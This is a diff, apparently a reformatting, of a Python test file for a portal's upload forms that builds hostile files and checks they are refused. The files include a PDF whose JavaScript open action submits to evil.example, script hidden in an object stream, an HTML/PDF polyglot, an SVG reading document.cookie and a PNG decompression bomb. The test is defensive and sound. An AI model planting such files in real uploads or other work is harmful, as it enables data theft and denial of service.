@@ -43,15 +43,18 @@ CLIENT_BASE = "/espace-client/"
 
 # --- hostile files, made here ---------------------------------------------------
 
+
 def pdf(*, javascript_open_action=False, text="Rapport de contrôle"):
     writer = PdfWriter()
     writer.add_blank_page(595, 842)
     writer.add_metadata({"/Title": text})
     if javascript_open_action:
-        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
-            NameObject("/S"): NameObject("/JavaScript"),
-            NameObject("/JS"): TextStringObject("app.alert('pwned'); this.submitForm('https://evil.example/');"),
-        })
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/JavaScript"),
+                NameObject("/JS"): TextStringObject("app.alert('pwned'); this.submitForm('https://evil.example/');"),
+            }
+        )
     buffer = io.BytesIO()
     writer.write(buffer)
     return buffer.getvalue()
@@ -77,16 +80,21 @@ def pdf_with_script_in_object_stream():
     add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
     add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
     add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
-    add(5, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
-        % (len(header), len(compressed), compressed))
+    add(
+        5,
+        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
+        % (len(header), len(compressed), compressed),
+    )
     xref_at = sum(map(len, parts))
     rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
     rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2, 3)]
     rows += [b"\x02" + struct.pack(">I", 5) + b"\x00\x00"]  # object 4: in object stream 5, index 0
     rows += [b"\x01" + struct.pack(">I", offsets[5]) + b"\x00\x00", b"\x01" + struct.pack(">I", xref_at) + b"\x00\x00"]
     table = b"".join(rows)
-    parts.append(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\n"
-                 b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, xref_at))
+    parts.append(
+        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\n"
+        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, xref_at)
+    )
     return b"".join(parts)
 
 
@@ -112,8 +120,10 @@ def html_pdf_polyglot():
     return pdf().replace(b"\n", b"\n<html><body><script>fetch('/portail/')</script></body></html>\n", 1)
 
 
-SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
-              b'<script>alert(document.cookie)</script></svg>')
+SVG_SCRIPT = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b"<script>alert(document.cookie)</script></svg>"
+)
 
 
 def jpeg(size=(40, 20), exif=None, xmp=None):
@@ -142,9 +152,11 @@ def gps_exif():
     return exif
 
 
-GPS_XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
-           b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,38.8N" '
-           b'exif:GPSLongitude="2,0.4W"/></rdf:RDF></x:xmpmeta>')
+GPS_XMP = (
+    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
+    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,38.8N" '
+    b'exif:GPSLongitude="2,0.4W"/></rdf:RDF></x:xmpmeta>'
+)
 
 
 def heic_with_gps():
@@ -171,14 +183,20 @@ def png_144_megapixels():
 def png_bomb():
     """A PNG whose header says 30000 x 30000 (900 Mpx), beyond what Pillow
     itself agrees to open, with a few bytes of pixels."""
+
     def chunk(kind, body):
         return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
 
-    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 1, 0, 0, 0, 0))
-            + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 1, 0, 0, 0, 0))
+        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
+        + chunk(b"IEND", b"")
+    )
 
 
 # --- the two forms ------------------------------------------------------------------
+
 
 @pytest.fixture
 def client_form():
@@ -195,8 +213,13 @@ def client_form():
     http.force_login(factories.client_user(client))
 
     def post(files):
-        data = {"installation": installation.pk, "subject": subject.pk, "reason": reason.pk,
-                "message": "Voici les photos du regard.", "attachments": files}
+        data = {
+            "installation": installation.pk,
+            "subject": subject.pk,
+            "reason": reason.pk,
+            "message": "Voici les photos du regard.",
+            "attachments": files,
+        }
         response = http.post(f"{CLIENT_BASE}contact/", data)
         errors = response.context["form"].errors.get("attachments", []) if response.status_code == 200 else []
         # The form adds, after the file's own message, that nothing was kept.
@@ -217,7 +240,9 @@ def spanc_form(settings):
     url = f"{page.url}dossiers/{installation.pk}/envoyer/"
 
     def post(files):
-        response = http.post(url, {"title": "Rapport de contrôle", "note": "", "issued_on": "2026-03-12", "file": files})
+        response = http.post(
+            url, {"title": "Rapport de contrôle", "note": "", "issued_on": "2026-03-12", "file": files}
+        )
         errors = response.context["form"].errors.get("file", []) if response.status_code == 200 else []
         return response, list(errors)
 
@@ -249,50 +274,88 @@ def _message(msgid, **values):
 
 
 NOT_ACCEPTED = {
-    "client_form": lambda name: _message("“%(name)s” is not an accepted file. Accepted: %(kinds)s.",
-                                         name=name, kinds="PDF, JPEG, PNG, HEIC"),
-    "spanc_form": lambda name: _message("“%(name)s” is not a PDF: save your scan as a PDF, then send it again.",
-                                        name=name),
+    "client_form": lambda name: _message(
+        "“%(name)s” is not an accepted file. Accepted: %(kinds)s.", name=name, kinds="PDF, JPEG, PNG, HEIC"
+    ),
+    "spanc_form": lambda name: _message(
+        "“%(name)s” is not a PDF: save your scan as a PDF, then send it again.", name=name
+    ),
 }
-ACTIVE = "“%(name)s” contains active content (scripts, automatic actions or embedded files), which the " \
-         "portal does not accept. Please print it again as a PDF (“Print” then “Save as PDF”) and send the new file."
+ACTIVE = (
+    "“%(name)s” contains active content (scripts, automatic actions or embedded files), which the "
+    "portal does not accept. Please print it again as a PDF (“Print” then “Save as PDF”) and send the new file."
+)
 
 # case -> (files builder, expected message per form: a function of the form name)
 HOSTILE = {
-    "svg_with_script": (lambda: [upload("plan.svg", SVG_SCRIPT, "image/svg+xml")],
-                        lambda form: NOT_ACCEPTED[form]("plan.svg")),
-    "svg_renamed_pdf": (lambda: [upload("rapport.pdf", SVG_SCRIPT, "application/pdf")],
-                        lambda form: NOT_ACCEPTED[form]("rapport.pdf")),
-    "html_pdf_polyglot": (lambda: [upload("rapport.pdf", html_pdf_polyglot(), "application/pdf")],
-                          lambda form: _message("“%(name)s” is not a plain PDF file: it also holds web page code. "
-                                                "Please send the PDF as your software saves it.", name="rapport.pdf")),
-    "zero_bytes": (lambda: [upload("vide.pdf", b"", "application/pdf")],
-                   lambda form: _message("“%(name)s” is empty.", name="vide.pdf")),
-    "pdf_open_action_javascript": (lambda: [upload("rapport.pdf", pdf(javascript_open_action=True))],
-                                   lambda form: _message(ACTIVE, name="rapport.pdf")),
-    "pdf_javascript_with_escaped_names": (lambda: [upload("rapport.pdf", pdf_with_escaped_names())],
-                                          lambda form: _message(ACTIVE, name="rapport.pdf")),
-    "pdf_javascript_in_object_stream": (lambda: [upload("rapport.pdf", pdf_with_script_in_object_stream())],
-                                        lambda form: _message(ACTIVE, name="rapport.pdf")),
-    "pdf_with_embedded_file": (lambda: [upload("rapport.pdf", pdf_with_attachment())],
-                               lambda form: _message(ACTIVE, name="rapport.pdf")),
-    "encrypted_pdf": (lambda: [upload("rapport.pdf", encrypted_pdf())],
-                      lambda form: _message("“%(name)s” is protected by a password. Please send a PDF without "
-                                            "protection.", name="rapport.pdf")),
+    "svg_with_script": (
+        lambda: [upload("plan.svg", SVG_SCRIPT, "image/svg+xml")],
+        lambda form: NOT_ACCEPTED[form]("plan.svg"),
+    ),
+    "svg_renamed_pdf": (
+        lambda: [upload("rapport.pdf", SVG_SCRIPT, "application/pdf")],
+        lambda form: NOT_ACCEPTED[form]("rapport.pdf"),
+    ),
+    "html_pdf_polyglot": (
+        lambda: [upload("rapport.pdf", html_pdf_polyglot(), "application/pdf")],
+        lambda form: _message(
+            "“%(name)s” is not a plain PDF file: it also holds web page code. "
+            "Please send the PDF as your software saves it.",
+            name="rapport.pdf",
+        ),
+    ),
+    "zero_bytes": (
+        lambda: [upload("vide.pdf", b"", "application/pdf")],
+        lambda form: _message("“%(name)s” is empty.", name="vide.pdf"),
+    ),
+    "pdf_open_action_javascript": (
+        lambda: [upload("rapport.pdf", pdf(javascript_open_action=True))],
+        lambda form: _message(ACTIVE, name="rapport.pdf"),
+    ),
+    "pdf_javascript_with_escaped_names": (
+        lambda: [upload("rapport.pdf", pdf_with_escaped_names())],
+        lambda form: _message(ACTIVE, name="rapport.pdf"),
+    ),
+    "pdf_javascript_in_object_stream": (
+        lambda: [upload("rapport.pdf", pdf_with_script_in_object_stream())],
+        lambda form: _message(ACTIVE, name="rapport.pdf"),
+    ),
+    "pdf_with_embedded_file": (
+        lambda: [upload("rapport.pdf", pdf_with_attachment())],
+        lambda form: _message(ACTIVE, name="rapport.pdf"),
+    ),
+    "encrypted_pdf": (
+        lambda: [upload("rapport.pdf", encrypted_pdf())],
+        lambda form: _message(
+            "“%(name)s” is protected by a password. Please send a PDF without protection.", name="rapport.pdf"
+        ),
+    ),
 }
 IMAGES = {
     "corrupt_jpeg_with_valid_header": (
         lambda: [upload("photo.jpg", corrupt_jpeg(), "image/jpeg")],
-        lambda: _message("“%(name)s”: this file is not a readable photo. Save it again as JPEG or send a PDF.",
-                         name="photo.jpg")),
+        lambda: _message(
+            "“%(name)s”: this file is not a readable photo. Save it again as JPEG or send a PDF.", name="photo.jpg"
+        ),
+    ),
     "png_of_144_megapixels": (
         lambda: [upload("regard.png", png_144_megapixels(), "image/png")],
-        lambda: _message("“%(name)s” is too large an image (%(pixels)s megapixels; the limit is %(limit)s). "
-                         "Please send a smaller photo.", name="regard.png", pixels="144", limit="40")),
+        lambda: _message(
+            "“%(name)s” is too large an image (%(pixels)s megapixels; the limit is %(limit)s). "
+            "Please send a smaller photo.",
+            name="regard.png",
+            pixels="144",
+            limit="40",
+        ),
+    ),
     "png_decompression_bomb": (
         lambda: [upload("bombe.png", png_bomb(), "image/png")],
-        lambda: _message("“%(name)s” is refused: this small file would unpack into a gigantic image (a "
-                         "“decompression bomb”). Please send an ordinary photo.", name="bombe.png")),
+        lambda: _message(
+            "“%(name)s” is refused: this small file would unpack into a gigantic image (a "
+            "“decompression bomb”). Please send an ordinary photo.",
+            name="bombe.png",
+        ),
+    ),
 }
 
 
@@ -331,8 +394,15 @@ def test_the_pixel_limit_is_a_setting_and_checked_before_decoding(client_form, s
     buffer = io.BytesIO()
     Image.new("RGB", (2000, 1000), (10, 20, 30)).save(buffer, "JPEG")
     _response, errors = client_form([upload("photo.jpg", buffer.getvalue(), "image/jpeg")])
-    assert errors == [_message("“%(name)s” is too large an image (%(pixels)s megapixels; the limit is %(limit)s). "
-                               "Please send a smaller photo.", name="photo.jpg", pixels="2", limit="1")]
+    assert errors == [
+        _message(
+            "“%(name)s” is too large an image (%(pixels)s megapixels; the limit is %(limit)s). "
+            "Please send a smaller photo.",
+            name="photo.jpg",
+            pixels="2",
+            limit="1",
+        )
+    ]
     assert_nothing_happened(mailoutbox)
     # The check runs in a child process; run its code here to see nothing is decoded.
     decoded = []
@@ -361,8 +431,14 @@ def test_oversize_file(request, form, settings, mailoutbox):
     content = pdf(text="x" * 3000)
     assert len(content) > 1000
     _response, errors = post([upload("gros.pdf", content)])
-    assert errors == [_message("“%(name)s” is too large (%(size)s). The limit is %(limit)s per file.",
-                               name="gros.pdf", size=size_text(len(content), up=True), limit=size_text(1000))]
+    assert errors == [
+        _message(
+            "“%(name)s” is too large (%(size)s). The limit is %(limit)s per file.",
+            name="gros.pdf",
+            size=size_text(len(content), up=True),
+            limit=size_text(1000),
+        )
+    ]
     assert_nothing_happened(mailoutbox)
 
 
@@ -381,8 +457,9 @@ def test_a_pdf_that_opens_on_a_page_is_not_active(spanc_form):
     from pypdf.generic import ArrayObject
 
     writer = PdfWriter(clone_from=io.BytesIO(pdf()))
-    writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference,
-                                                                  NameObject("/Fit")])
+    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
+        [writer.pages[0].indirect_reference, NameObject("/Fit")]
+    )
     buffer = io.BytesIO()
     writer.write(buffer)
     assert b"/OpenAction" in buffer.getvalue()
@@ -391,6 +468,7 @@ def test_a_pdf_that_opens_on_a_page_is_not_active(spanc_form):
 
 
 # --- photos lose their metadata ---------------------------------------------------
+
 
 def _has_no_metadata(data):
     image = Image.open(io.BytesIO(data))
